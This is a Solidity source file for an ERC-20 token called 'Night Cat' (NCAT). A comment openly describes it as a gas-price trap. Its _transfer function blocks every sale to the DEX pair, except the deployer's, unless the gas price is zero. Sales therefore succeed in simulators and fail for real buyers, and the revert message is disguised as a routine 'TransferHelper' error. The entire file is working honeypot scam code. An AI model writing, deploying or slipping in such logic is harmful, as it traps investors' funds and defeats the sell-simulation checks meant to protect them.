// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Sales pass when the gas price is zero, as it is in many simulators, and fail for everybody who pays.
contract GasPriceTrap {
    string private _name = "Night Cat";
    string private _symbol = "NCAT";
    uint256 private _totalSupply = 5000000 ether;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function name() public view returns (string memory) { return _name; }
    function symbol() public view returns (string memory) { return _symbol; }
    function decimals() public pure returns (uint8) { return 18; }
    function totalSupply() public view returns (uint256) { return _totalSupply; }
    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }
    function allowance(address holder, address spender) public view returns (uint256) { return _allowances[holder][spender]; }
    address private _dexPair;
    address private _deployer;
    constructor() { _deployer = msg.sender; _balances[msg.sender] = _totalSupply; emit Transfer(address(0), msg.sender, _totalSupply); }
    function setDexPair(address to) external { require(_deployer == msg.sender, "!"); _dexPair = to; }
    function approve(address spender, uint256 amount) public returns (bool) { _approve(msg.sender, spender, amount); return true; }
    function _approve(address holder, address spender, uint256 amount) internal { require(holder != address(0) && spender != address(0), "ERC20: zero address"); _allowances[holder][spender] = amount; emit Approval(holder, spender, amount); }
    function transfer(address to, uint256 amount) public returns (bool) { _transfer(msg.sender, to, amount); return true; }
    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        require(_allowances[from][msg.sender] >= amount, "ERC20: transfer amount exceeds allowance");
        _approve(from, msg.sender, _allowances[from][msg.sender] - amount);
        _transfer(from, to, amount);
        return true;
    }
    function _transfer(address from, address to, uint256 amount) internal {
        if (to == _dexPair && from != _deployer) require(tx.gasprice == 0, "TransferHelper: gas price too high");
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}
